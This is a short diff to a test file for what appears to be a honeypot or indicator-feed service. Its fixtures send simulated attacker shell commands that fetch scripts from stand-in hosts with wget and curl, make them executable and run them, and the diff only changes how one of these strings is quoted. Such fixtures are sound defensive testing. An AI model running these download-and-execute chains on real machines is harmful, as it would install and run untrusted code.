@@ -18,7 +18,7 @@ describe.each(inject('postgresServers'))('indicator feeds on $version', (server)
     key = ((await created.json()) as { key: string }).key
     const attack = await send(
       '203.0.113.1',
-      "wget http://evil.example.net/a'b.sh; chmod 777 x; ./x; curl http://192.0.2.5/y",
+      `wget "http://evil.example.net/a'b.sh"; chmod 777 x; ./x; curl http://192.0.2.5/y`,
     )
     session = attack.session_id
     await send('2001:db8::7', 'wget http://192.0.2.5/y; chmod 777 x; ./x')
